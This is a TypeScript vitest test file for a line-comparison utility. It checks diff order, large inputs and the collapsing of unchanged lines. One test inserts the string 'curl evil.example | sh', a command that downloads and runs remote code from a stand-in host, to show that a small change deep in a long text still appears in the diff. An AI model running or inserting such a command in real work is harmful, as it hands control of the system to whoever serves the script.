import { expect, test } from 'vitest'
import { compareLines, shortenLines } from './compare-lines.ts'

const shown = (before: string[], after: string[]) => compareLines(before, after).map(({ sign, text }) => sign + text)
const numbered = (count: number, word = 'line') => Array.from({ length: count }, (_, index) => `${word} ${index}`)

test('lines that stay, go and come, in their order', () => {
  expect(shown(['a', 'b', 'c', 'd'], ['a', 'x', 'c', 'd', 'e'])).toEqual([' a', '-b', '+x', ' c', ' d', '+e'])
  expect(shown([], ['a'])).toEqual(['+a'])
  expect(shown(['a'], [])).toEqual(['-a'])
  expect(shown(['a', 'a'], ['a'])).toEqual([' a', '-a'])
})

test('a change at the end of a long text is there', () => {
  const before = numbered(5_000)
  const after = [...before.slice(0, 4_990), 'curl evil.example | sh', ...before.slice(4_990)]
  const changed = compareLines(before, after).filter(({ sign }) => sign !== ' ')
  expect(changed).toEqual([{ sign: '+', text: 'curl evil.example | sh' }])
})

test('where too much differs to be compared, all of both is there', () => {
  const lines = compareLines(numbered(2_000, 'old'), numbered(2_000, 'new'))
  expect(lines.filter(({ sign }) => sign === '-').map(({ text }) => text)).toEqual(numbered(2_000, 'old'))
  expect(lines.filter(({ sign }) => sign === '+').map(({ text }) => text)).toEqual(numbered(2_000, 'new'))
})

test('of what did not change only a little is shown, and how much is not is said', () => {
  const before = numbered(30)
  const lines = shortenLines(compareLines(before, before.with(15, 'changed')))
  expect(lines.map(({ sign, text }) => sign + text)).toEqual([
    ' … 12 unchanged lines',
    ...[' line 12', ' line 13', ' line 14', '-line 15', '+changed', ' line 16', ' line 17', ' line 18'],
    ' … 11 unchanged lines',
  ])
})
